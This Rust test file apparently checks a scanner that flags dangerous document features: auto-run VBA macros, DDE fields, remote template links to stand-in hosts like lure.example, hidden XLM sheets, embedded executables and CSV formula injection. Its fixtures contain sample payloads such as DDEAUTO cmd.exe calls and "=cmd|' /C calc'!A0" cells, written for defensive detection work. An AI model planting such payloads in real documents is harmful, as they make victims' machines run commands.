//! Documents, made here.

use super::super::MarkKind::{
    self, AutoMacro, Broken, Dde, EmbeddedObject, Encrypted, Executable, ExternalTemplate, Macro,
    NotLookedAt, XlmMacro,
};
use super::super::tests::made::{compound, pe, zip};
use super::super::tests::{check, evidence};
use super::vba::decompress;

/// Source as a module holds it: compiled code first, then the packed text, here in literals alone.
fn module(source: &str) -> Vec<u8> {
    let source = format!("Attribute VB_Name = \"M\"\r\n{source}");
    let mut out = vec![0x16; 40];
    out.push(1);
    for chunk in source.as_bytes().chunks(3_600) {
        let body: Vec<u8> = chunk.chunks(8).flat_map(|eight| [&[0][..], eight].concat()).collect();
        out.extend((0xb000 | (body.len() as u16 - 1)).to_le_bytes());
        out.extend(body);
    }
    out
}

fn document(source: &str) -> Vec<u8> {
    compound(&[
        ("/WordDocument", &[0; 600]),
        ("/Macros/VBA/_VBA_PROJECT", b"x"),
        ("/Macros/VBA/M", &module(source)),
    ])
}

#[test]
fn macros_are_told_by_what_starts_them_and_what_they_call() {
    let rows: [(&str, &[MarkKind], &str); 9] = [
        ("Sub Sum()\r\nx = 1\r\nEnd Sub\r\n", &[Macro], "VBA"),
        ("Sub AutoOpen()\r\nShell(\"calc\")\r\nEnd Sub", &[AutoMacro, Macro], "autoopen: shell"),
        ("Private Sub Document_Open()\r\nEnd Sub", &[AutoMacro, Macro], "document_open"),
        ("Public Sub  Workbook_Open ()\r\nEnd Sub", &[AutoMacro, Macro], "workbook_open"),
        (
            "Sub Auto_Close()\r\nCreateObject(\"WScript.\" & \"Shell\")",
            &[AutoMacro, Macro],
            "auto_close: wscript.shell, createobject",
        ),
        (
            "Private Sub InkPicture1_Painted(ByVal a As Long)\r\nx\r\nEnd Sub",
            &[AutoMacro, Macro],
            "inkpicture1_painted",
        ),
        ("' Sub AutoOpen()\r\n\r\nOption Explicit\r\n", &[], ""),
        ("", &[], ""),
        ("Sub a()\r\nx = \"AutoOpen\"\r\nEnd Sub", &[Macro], "VBA"),
    ];
    for (source, expected, shown) in rows {
        let look = check("a.doc", &document(source), expected);
        let kind = if expected.contains(&AutoMacro) { AutoMacro } else { Macro };
        assert!(evidence(&look, kind).starts_with(shown), "{source}: {:?}", look.marks);
    }
    // Source that was taken away leaves the compiled code, which runs all the same.
    let stomped = compound(&[("/Macros/VBA/M", &[0x16; 800])]);
    let look = check("a.doc", &stomped, &[Macro]);
    assert!(evidence(&look, Macro).contains("no source in M"));
}

#[test]
fn packed_source_is_unpacked() {
    // [MS-OVBA] 3.2: the examples without and with copies.
    let plain = b"\x01\x19\xb0\0abcdefgh\0ijklmnop\0qrstuv.";
    assert_eq!(decompress(plain, 1 << 20).unwrap(), b"abcdefghijklmnopqrstuv.");
    let copied = b"\x01\x03\xb0\x02a\x45\0";
    assert_eq!(decompress(copied, 1 << 20).unwrap(), vec![b'a'; 73]);
    let normal =
        b"\x01\x2f\xb0\0#aaabcde\x82f\0paghij\x018\x08akl\x000mnop\x06q\x02p\x04\x10rstuv\x10wxyz\0<";
    assert_eq!(
        decompress(normal, 1 << 20).unwrap(),
        b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"
    );
    // A copy from before the beginning.
    assert_eq!(decompress(b"\x01\x03\xb0\x01\xff\xff\0", 1 << 20).unwrap(), b"");
    assert_eq!(decompress(b"\x02", 9), None);
}

#[test]
fn older_documents_tell_fields_passwords_and_files() {
    let mut word = vec![0; 600];
    assert_eq!(check("a.doc", &compound(&[("/WordDocument", &word)]), &[]).kind, "application/x-ole-storage");
    let field = b"\x13 DDEAUTO c:\\\\cmd.exe \"/c calc\" \x14 \x15";
    let with = [&word[..], field].concat();
    check("a.doc", &compound(&[("/WordDocument", &with)]), &[Dde]);
    let wide: Vec<u8> = field.iter().flat_map(|&byte| [byte, 0]).collect();
    check("a.doc", &compound(&[("/WordDocument", &[&word[..], &wide].concat())]), &[Dde]);
    word[11] = 1;
    check("a.doc", &compound(&[("/WordDocument", &word)]), &[Encrypted]);
    // A program that was dragged in.
    let mut package = vec![0; 4];
    package.extend(b"\x02\0a.txt\0C:\\setup.exe\0\0\0\x03\0");
    package.extend([&13_u32.to_le_bytes()[..], b"C:\\setup.exe\0"].concat());
    package.extend([&(pe().len() as u32).to_le_bytes()[..], &pe()].concat());
    let look = check(
        "a.doc",
        &compound(&[("/WordDocument", &[0; 600]), ("/ObjectPool/_1/\u{1}Ole10Native", &package)]),
        &[EmbeddedObject, Executable],
    );
    assert!(look.marks.iter().any(|mark| mark.place == "a.doc/setup.exe"), "{:?}", look.marks);
    check("a.doc", &compound(&[("/ObjectPool/_1/Equation Native", &[0; 80])]), &[EmbeddedObject]);
    // A linked object.
    let mut linked = vec![0; 24];
    linked.extend([0xe0, 0xc9, 0xea, 0x79, 0xf9, 0xba, 0xce, 0x11, 0x8c, 0x82, 0, 0xaa, 0, 0x4b, 0xa9, 0x0b]);
    let address: Vec<u8> = "https://lure.example/a.hta\0".encode_utf16().flat_map(u16::to_le_bytes).collect();
    linked.extend((address.len() as u32).to_le_bytes());
    linked.extend(address);
    check("a.doc", &compound(&[("/ObjectPool/_1/\u{1}Ole", &linked)]), &[ExternalTemplate]);
    check("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 and nothing more", &[Broken]);
}

#[test]
fn older_workbooks_tell_macro_sheets_exchange_and_passwords() {
    let record = |kind: u16, content: &[u8]| {
        [&kind.to_le_bytes()[..], &(content.len() as u16).to_le_bytes(), content].concat()
    };
    let sheet = |hidden: u8, kind: u8| record(0x85, &[&[0, 0, 0, 0, hidden, kind, 2, 0][..], b"M1"].concat());
    let auto = record(0x18, &[&[0x20, 0, 0, 1][..], &[0; 10], &[0, 1]].concat());
    let link = record(0x1ae, &[&[0, 0, 9, 0, 0][..], b"cmd\x03/c cal"].concat());
    let object = record(0x1ae, &[&[0, 0, 20, 0, 0][..], b"Word.Document.8\x03a.do"].concat());
    let rows: [(Vec<u8>, &[MarkKind], &str); 7] = [
        (sheet(0, 0), &[], ""),
        (sheet(0, 1), &[XlmMacro], "M1"),
        ([sheet(2, 1), auto.clone()].concat(), &[XlmMacro], "M1 (very hidden), Auto_Open"),
        ([sheet(0, 0), auto].concat(), &[], ""),
        (link, &[Dde], ""),
        (object, &[], ""),
        ([record(0x2f, &[1, 0]), sheet(2, 1)].concat(), &[Encrypted], ""),
    ];
    for (stream, expected, shown) in rows {
        let look = check("a.xls", &compound(&[("/Workbook", &stream)]), expected);
        assert_eq!(evidence(&look, XlmMacro), shown);
    }
}

#[test]
fn installers_mails_and_slides_are_opened() {
    let mut installer = compound(&[("/a", b"x")]);
    let root: Vec<u8> = "Root Entry".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let class = installer.windows(root.len()).position(|window| window == root).unwrap() + 80;
    installer[class..class + 16].copy_from_slice(b"\x84\x10\x0c\0\0\0\0\0\xc0\0\0\0\0\0\0\x46");
    check("a.msi", &installer, &[Executable, NotLookedAt]);
    let name: Vec<u8> = "evil.exe".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mail = compound(&[
        ("/__properties_version1.0", &[0; 32]),
        ("/__attach_version1.0_#00000000/__substg1.0_3707001F", &name),
        ("/__attach_version1.0_#00000000/__substg1.0_37010102", &pe()),
    ]);
    let look = check("a.msg", &mail, &[Executable]);
    assert!(look.marks.iter().any(|mark| mark.place == "a.msg/evil.exe"), "{:?}", look.marks);
    let inner = compound(&[("/VBA/M", &module("Sub Auto_Open()\r\nEnd Sub"))]);
    let packed = miniz_oxide::deflate::compress_to_vec_zlib(&inner, 9);
    let mut slides = vec![0x10, 0, 0x11, 0x10];
    slides.extend((packed.len() as u32 + 4).to_le_bytes());
    slides.extend((inner.len() as u32).to_le_bytes());
    slides.extend(packed);
    check("a.ppt", &compound(&[("/PowerPoint Document", &slides)]), &[AutoMacro, Macro]);
}

fn office(parts: &[(&str, &[u8])]) -> Vec<u8> {
    zip(&[&[("[Content_Types].xml", &b"<Types/>"[..])], parts].concat())
}

#[test]
fn documents_of_today_tell_what_they_start_and_fetch() {
    let relation = |kind: &str, target: &str, mode: &str| {
        format!(
            "<Relationships><Relationship Id='r' Type='http://schemas.example/2006/relationships/{kind}' Target='{target}' {mode}/></Relationships>"
        )
    };
    let external = "TargetMode='External'";
    let rows: [(&str, String, &[MarkKind]); 18] = [
        ("word/document.xml", "<w:p>text</w:p>".to_owned(), &[]),
        ("word/_rels/settings.xml.rels", relation("attachedTemplate", "https://lure.example/a.dotm", external), &[ExternalTemplate]),
        ("word/_rels/settings.xml.rels", relation("attachedTemplate", "\\\\198.51.100.7\\a.dotm", external), &[ExternalTemplate]),
        ("word/_rels/settings.xml.rels", relation("attachedTemplate", "file:///C:\\Users\\a\\a.dotm", external), &[]),
        ("word/_rels/document.xml.rels", relation("oleObject", "mhtml:https://lure.example/a!x", external), &[ExternalTemplate]),
        ("word/_rels/document.xml.rels", relation("frame", "https://lure.example/", external), &[ExternalTemplate]),
        ("word/_rels/document.xml.rels", relation("hyperlink", "https://a.example/", external), &[]),
        ("word/_rels/document.xml.rels", relation("image", "https://a.example/a.png", external), &[]),
        ("word/_rels/document.xml.rels", relation("oleObject", "embeddings/a.bin", ""), &[]),
        ("word/document.xml", "<w:fldSimple w:instr=' DDEAUTO c:\\cmd \"/c\" '/>".to_owned(), &[Dde]),
        (
            "word/document.xml",
            "<w:fldChar w:fldCharType='begin'/><w:instrText> DDE</w:instrText><w:r/><w:instrText>AUTO c:\\cmd</w:instrText><w:fldChar w:fldCharType='separate'/>"
                .to_owned(),
            &[Dde],
        ),
        ("word/document.xml", "<w:instrText>QUOTE 68 68 69 32 99 109 100</w:instrText>".to_owned(), &[Dde]),
        ("word/document.xml", "<w:instrText> PAGE </w:instrText><w:fldSimple w:instr='DATE'/>".to_owned(), &[]),
        ("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>".to_owned(), &[Dde]),
        ("xl/macrosheets/sheet1.xml", "<x/>".to_owned(), &[XlmMacro]),
        ("word/embeddings/page.html", "<html><input type=password></html>".to_owned(), &[MarkKind::HtmlForm]),
        ("word/activeX/activeX1.bin", "x".to_owned(), &[EmbeddedObject]),
        ("customUI/customUI.xml", "<customUI onLoad='x'/>".to_owned(), &[AutoMacro]),
    ];
    for (part, content, expected) in rows {
        check("a.docx", &office(&[(part, content.as_bytes())]), expected);
    }
    let project = compound(&[("/VBA/M", &module("Sub AutoOpen()\r\nEnd Sub"))]);
    let look = check("a.docm", &office(&[("word/vbaProject.bin", &project)]), &[AutoMacro, Macro]);
    assert!(look.marks.iter().all(|mark| mark.place == "a.docm/word/vbaProject.bin"), "{:?}", look.marks);
    // Under any other name of the part.
    check("a.docx", &office(&[("word/media/image1.png", &pe())]), &[Executable, MarkKind::Disguised]);
    let book = "<sheets><sheet name='A' state='veryHidden'/></sheets><definedName name='_xlnm.Auto_Open'>x</definedName>";
    let look = check(
        "a.xlsm",
        &office(&[("xl/workbook.xml", book.as_bytes()), ("xl/macrosheets/s.xml", b"<x/>")]),
        &[XlmMacro],
    );
    assert_eq!(evidence(&look, XlmMacro), "s.xml, A (veryHidden), Auto_Open");
}

#[test]
fn open_documents_tell_their_scripts() {
    let odf = |parts: &[(&str, &[u8])]| {
        zip(&[&[("mimetype", &b"application/vnd.oasis.opendocument.text"[..])], parts].concat())
    };
    check("a.odt", &odf(&[("content.xml", b"<x/>")]), &[]);
    check("a.odt", &odf(&[("Basic/Standard/M.xml", b"Sub Main")]), &[Macro]);
    let event = b"<script:event-listener script:event-name=\"dom:load\"/>";
    check(
        "a.odt",
        &odf(&[("Basic/Standard/M.xml", b"Sub Main"), ("content.xml", event)]),
        &[AutoMacro, Macro],
    );
}

#[test]
fn tables_with_formulas_that_start_programs_are_found() {
    let rows: [(&str, &str, &[MarkKind]); 8] = [
        ("a.csv", "name,=cmd|' /C calc'!A0\n", &[Dde]),
        ("a.csv", "\"@SUM(1+1)*cmd|' /C calc'!A0\"", &[Dde]),
        ("a.csv", "+1+powershell|'-c x'!A", &[Dde]),
        ("a.csv", "=SUM(A1:A9),-5,+81-3-1234-5678", &[]),
        ("a.csv", "a|b|c!,=1", &[]),
        ("a.csv", "=HYPERLINK(\"https://a.example\")", &[]),
        ("a.txt", "=cmd|' /C calc'!A0", &[]),
        ("a.tsv", "x\t=msexcel|'a'!b", &[Dde]),
    ];
    for (name, table, expected) in rows {
        check(name, table.as_bytes(), expected);
    }
}
